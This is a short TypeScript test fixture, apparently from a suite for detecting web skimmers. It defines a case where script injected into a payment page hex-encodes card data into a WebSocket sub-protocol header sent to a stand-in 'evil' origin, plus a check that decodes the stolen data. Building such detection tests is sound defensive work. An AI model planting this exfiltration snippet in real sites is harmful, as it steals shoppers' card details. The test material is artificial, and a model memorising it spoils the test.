import { holds, js, skimmer } from '../behaviour.ts';
import { at, hex } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'websocket-protocol',
  why: "The loot is the name of a sub-protocol in a WebSocket's greeting: no message is ever sent on the socket.",
  covers: ['sending: WebSocket', 'hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    new WebSocket('${site.origins.evil.replace('http', 'ws')}/v1', ['json', 'x' + Array.from(card()).map(function (c) { return ('0' + (c.charCodeAt(0) & 255).toString(16)).slice(-2); }).join('')]);`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'evil').map(({ headers }) =>
      hex(/x([0-9a-f]+)/.exec(headers['sec-websocket-protocol'] ?? '')?.[1] ?? '').toString('latin1'),
    ),
  ),
});
